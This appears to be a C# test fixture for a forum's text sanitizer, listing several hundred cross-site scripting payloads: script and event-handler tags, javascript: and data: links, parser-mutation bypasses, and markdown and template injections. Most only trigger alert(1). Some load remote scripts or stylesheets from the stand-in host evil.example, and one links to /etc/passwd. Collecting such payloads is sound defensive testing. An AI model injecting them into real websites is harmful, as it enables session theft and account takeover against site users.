namespace Forum.Tests.Text;

/// <summary>
/// XSS payloads that worked somewhere: the families of OWASP's filter evasion cheat sheet, PortSwigger's list, and the
/// mutation payloads that bypassed sanitizers. One on each line.
/// </summary>
internal static class XssPayloads
{
    public static readonly string[] All = (Tags + Handlers + Addresses + Mutations + InMarkdown)
        .Split('\n', StringSplitOptions.RemoveEmptyEntries);

    private const string Tags = """"
        <script>alert(1)</script>
        <SCRIPT SRC=https://evil.example/x.js></SCRIPT>
        <script src=//evil.example/x.js>
        <scr<script>ipt>alert(1)</scr</script>ipt>
        <<SCRIPT>alert(1);//<</SCRIPT>
        <script/xss src="https://evil.example/x.js"></script>
        <script type="text/javascript">alert(1)</script
        <script>alert(1)//
        </script><script>alert(1)</script>
        <sCrIpT>alert`1`</sCrIpT>
        <script ~~~>alert(0%0)</script ~~~>
        <iframe src="javascript:alert(1)"></iframe>
        <iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>
        <iframe/src="data:text/html,<svg onload=alert(1)>">
        <frameset onload=alert(1)>
        <frameset><frame src="javascript:alert(1)"></frameset>
        <object data="javascript:alert(1)"></object>
        <object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>
        <object type="text/x-scriptlet" data="https://evil.example/x.html"></object>
        <embed src="javascript:alert(1)">
        <embed src="data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+" type="image/svg+xml">
        <applet code="javascript:alert(1)">
        <base href="javascript:alert(1)//">
        <base href=//evil.example/>
        <meta http-equiv="refresh" content="0;url=javascript:alert(1)">
        <meta http-equiv="refresh" content="0; url=data:text/html,<script>alert(1)</script>">
        <meta charset="utf-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-
        <link rel="stylesheet" href="javascript:alert(1)">
        <link rel=import href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">
        <style>@import'https://evil.example/x.css';</style>
        <style>body{background:url("javascript:alert(1)")}</style>
        <style>*{x:expression(alert(1))}</style>
        <svg onload=alert(1)>
        <svg/onload=alert(1)//
        <svg><script>alert(1)</script></svg>
        <svg><script href="data:text/javascript,alert(1)"/></svg>
        <svg><animate onbegin=alert(1) attributeName=x dur=1s>
        <svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>
        <svg><set attributeName="href" to="javascript:alert(1)"/></svg>
        <svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>#x"/></svg>
        <svg><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"></iframe></foreignObject></svg>
        <svg><image href="x" onerror="alert(1)"/></svg>
        <math><a xlink:href="javascript:alert(1)">x</a></math>
        <math href="javascript:alert(1)">x</math>
        <math><maction actiontype="statusline#https://evil.example" xlink:href="javascript:alert(1)">x</maction></math>
        <form action="javascript:alert(1)"><input type=submit></form>
        <form><button formaction="javascript:alert(1)">x</button></form>
        <form id=x></form><button form=x formaction=javascript:alert(1)>x</button>
        <isindex type=image src=1 onerror=alert(1)>
        <input type="image" src="javascript:alert(1)">
        <bgsound src="javascript:alert(1)">
        <layer src="https://evil.example/x.html"></layer>
        <xml id="x"><a><b>&lt;script>alert(1)&lt;/script></b></a></xml>
        <xss style="behavior:url(x.htc)">
        <template><script>alert(1)</script></template>
        <template shadowrootmode="open"><script>alert(1)</script></template>
        <portal src="https://evil.example">
        <marquee onstart=alert(1)>x</marquee>
        <noembed><img src=x onerror=alert(1)></noembed>

        """";

    private const string Handlers = """"
        <img src=x onerror=alert(1)>
        <img src="x" onerror="alert(1)"/>
        <img src=x onerror=alert(1)//
        <img/src/onerror=alert(1)>
        <img src=x:x onerror=alert(1)>
        <img src=`x`onerror=alert(1)>
        <IMG """><SCRIPT>alert(1)</SCRIPT>"\>
        <img src=javascript:alert(1)>
        <img src="jav&#x09;ascript:alert(1)">
        <img src="jav&#x0A;ascript:alert(1)">
        <img src=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>
        <img src=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74(1)>
        <img dynsrc="javascript:alert(1)">
        <img lowsrc="javascript:alert(1)">
        <img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>">
        <img srcset="x 1x, javascript:alert(1) 2x" src="http://a.example/i.png">
        <img src="https://a.example/i.png" longdesc="javascript:alert(1)" usemap="#x">
        <image src=x onerror=alert(1)>
        <body onload=alert(1)>
        <body background="javascript:alert(1)">
        <body onpageshow=alert(1)>
        <video><source onerror="alert(1)">
        <video src=x onerror=alert(1)></video>
        <video poster=javascript:alert(1)//></video>
        <audio src=x onerror=alert(1)>
        <details open ontoggle=alert(1)>
        <input autofocus onfocus=alert(1)>
        <select autofocus onfocus=alert(1)>
        <textarea autofocus onfocus=alert(1)>
        <keygen autofocus onfocus=alert(1)>
        <div onmouseover="alert(1)">x</div>
        <div onpointerrawupdate=alert(1)>x</div>
        <div style="width:expression(alert(1))">x</div>
        <div style="background-image:url(javascript:alert(1))">x</div>
        <div style="position:fixed;top:0;left:0;width:100%;height:100%">x</div>
        <p style="animation:x" onanimationstart="alert(1)">x</p>
        <b onclick=alert(1)>x</b>
        <a href=# onclick=alert(1)>x</a>
        <a onmouseover=alert(1)>x</a>
        <a href="https://a.example" onclick="alert(1)" target="_blank" ping="https://evil.example">x</a>
        <a href="https://a.example" rel="opener" target="x">x</a>
        <p id="forum" name="forms" class="moderator-badge">x</p>
        <a id=x><a id=x name=y href="https://a.example">x</a>
        <table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">x</td></tr></table>
        <br size="&{alert(1)}">
        <q/oncut=alert(1)>x
        <x contenteditable onblur=alert(1)>x</x>
        <xss onfocus=alert(1) tabindex=1 id=x>x</xss>
        <dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>
        <button popovertarget=x>x</button><input type=hidden popover id=x onbeforetoggle=alert(1)>
        "><img src=x onerror=alert(1)>
        '><svg onload=alert(1)>
        " onmouseover="alert(1)
        ' autofocus onfocus='alert(1)

        """";

    private const string Addresses = """"
        <a href="javascript:alert(1)">x</a>
        <a href="JaVaScRiPt:alert(1)">x</a>
        <a href=" javascript:alert(1)">x</a>
        <a href="&#1;javascript:alert(1)">x</a>
        <a href="java&#9;script:alert(1)">x</a>
        <a href="java&#10;script:alert(1)">x</a>
        <a href="java&#13;script:alert(1)">x</a>
        <a href="javascript&colon;alert(1)">x</a>
        <a href="javascript&#58;alert(1)">x</a>
        <a href="javascript&#x3a;alert(1)">x</a>
        <a href="&Tab;javascript:alert(1)">x</a>
        <a href="java&NewLine;script:alert(1)">x</a>
        <a href="javascript:%61lert(1)">x</a>
        <a href="javascript://a.example/%0aalert(1)">x</a>
        <a href="javascript:void(0);//https://a.example">x</a>
        <a href="vbscript:msgbox(1)">x</a>
        <a href="livescript:alert(1)">x</a>
        <a href="data:text/html,<script>alert(1)</script>">x</a>
        <a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
        <a href="data:,x">x</a>
        <a href="file:///etc/passwd">x</a>
        <a href="blob:https://a.example/x">x</a>
        <a href="filesystem:https://a.example/x">x</a>
        <a href="view-source:https://a.example">x</a>
        <a href="jar:https://evil.example!/x">x</a>
        <a href="feed:javascript:alert(1)">x</a>
        <a href="mocha:alert(1)">x</a>
        <a href="about:blank">x</a>
        <a href="intent://scan/#Intent;scheme=zxing;end">x</a>
        <a href="tel:+123">x</a>
        <a href="//evil.example">x</a>
        <a href="\\evil.example">x</a>
        <a href="/\evil.example">x</a>
        <a href="https:\\evil.example">x</a>
        <a href="https:evil.example">x</a>
        <a href="/account/logout">x</a>
        <a href="?q=1">x</a>
        <a href="#top">x</a>
        <a href="https://bank.example@evil.example/">x</a>
        <a href="https://user:secret@evil.example/">x</a>
        <a href="https://[::1">x</a>
        <a href="https://">x</a>
        <a href="http:///evil.example">x</a>
        <a href="https://evil.example&#0;.a.example">x</a>
        <a href="https://a.example/&quot; onclick=&quot;alert(1)">x</a>
        <a href="https://a.example/'><script>alert(1)</script>">x</a>
        <a href="mailto:a@b.example?cc=c@d.example&body=x">x</a>
        <a href="mailto:javascript:alert(1)">x</a>
        <a href="mailto:a@b.example%0aBcc:c@d.example">x</a>
        <a href="ｊａｖａｓｃｒｉｐｔ:alert(1)">x</a>
        <a href=javascript:alert(1)>x</a>
        <a href='javascript:alert(1)' href='https://a.example'>x</a>

        """";

    private const string Mutations = """"
        <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
        <math><mtext><table><mglyph><style><math><img src onerror=alert(1)>
        <form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
        <svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
        <svg><p><style><g title="</style><img src=x onerror=alert(1)>"></svg>
        <noscript><p title="</noscript><img src=x onerror=alert(1)>">
        <noscript><style></noscript><img src=x onerror=alert(1)></style>
        <textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>
        <title><img title="</title><img src=x onerror=alert(1)>"></title>
        <xmp><p title="</xmp><img src=x onerror=alert(1)>">
        <iframe><p title="</iframe><img src=x onerror=alert(1)>">
        <plaintext><img src=x onerror=alert(1)>
        <!--><img src=x onerror=alert(1)>-->
        <!--x--!><img src=x onerror=alert(1)>-->
        <!--<img src="--><img src=x onerror=alert(1)//">
        <![CDATA[<img src=x onerror=alert(1)>]]>
        <svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>
        <?xml version="1.0"?><img src=x onerror=alert(1)>
        <!DOCTYPE x [<!ENTITY y "z">]><img src=x onerror=alert(1)>
        <table><td><form><table><td></form></form></td></table></td></table><img src=x onerror=alert(1)>
        <a href="https://a.example"><table><a href="javascript:alert(1)">x</a></table></a>
        <p><svg><desc><p><style><img title="</style><img src=x onerror=alert(1)>">
        <select><template><style><!--</style><a rel="--></style></template></select><img id=x src onerror=alert(1)>">
        <b><p title="</b><script>alert(1)</script>">x</p></b>
        <listing>&lt;img src=x onerror=alert(1)&gt;</listing>
        <div id="1"><div id="2"><b><i><u><div></b></i></u><img src=x onerror=alert(1)></div>
        <option><style></option></select><b><img src=x onerror=alert(1)></style></option>
        <style><style/><img src=x onerror=alert(1)>
        <math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>
        <svg><title><style><!--</style><img src=x onerror=alert(1)>--></title></svg>
        &lt;script&gt;alert(1)&lt;/script&gt;
        %3Cscript%3Ealert(1)%3C/script%3E
        ＜script＞alert(1)＜/script＞
        ‹script›alert(1)‹/script›
        <sc\0ript>alert(1)</sc\0ript>
        <​script>alert(1)</script>
        </p></div></body></html><script>alert(1)</script>

        """";

    private const string InMarkdown = """"
        [x](javascript:alert(1))
        [x](javascript&colon;alert(1))
        [x](java&#x09;script:alert(1))
        [x](<javascript:alert(1)>)
        [x](\javascript:alert(1))
        [x](JaVaScRiPt:alert(1) "title")
        [x](data:text/html,<script>alert(1)</script>)
        [x](vbscript:msgbox(1))
        [x](//evil.example)
        [x](\\evil.example)
        [x](https://a.example" onclick="alert(1))
        [x](https://a.example 'x" onclick="alert(1)')
        [x](https://a.example "><script>alert(1)</script>")
        [x](<https://a.example/"onclick=alert(1)>)
        [<script>alert(1)</script>](https://a.example)
        [x"onclick="alert(1)](https://a.example)
        ![x](javascript:alert(1))
        ![x"onerror="alert(1)](https://a.example/i.png)
        ![x](https://a.example/i.png"onerror="alert(1))
        ![<img src=x onerror=alert(1)>](https://a.example/i.png)
        <javascript:alert(1)>
        <https://a.example/"onclick=alert(1)>
        <https://a.example/?<script>alert(1)</script>>
        <mailto:a@b.example?body=x>
        https://a.example/"onmouseover="alert(1)
        https://a.example/<script>alert(1)</script>
        `<script>alert(1)</script>`
        ``` "onclick="alert(1)
        ```<script>alert(1)</script>
        > <script>alert(1)</script>
        - <img src=x onerror=alert(1)>
        # <svg onload=alert(1)>
        *<b onclick=alert(1)>x</b>*
        [x]: javascript:alert(1) "x"
        [a](b)<!-- --><script>alert(1)</script>
        \<script\>alert(1)\</script\>
        [![x](javascript:alert(1))](javascript:alert(1))
        &#60;img src=x onerror=alert(1)&#62;
        [x](https://a.example){onclick=alert(1)}
        {{constructor.constructor('alert(1)')()}}
        ${alert(1)} <%= alert(1) %> #{alert(1)}

        """";
}
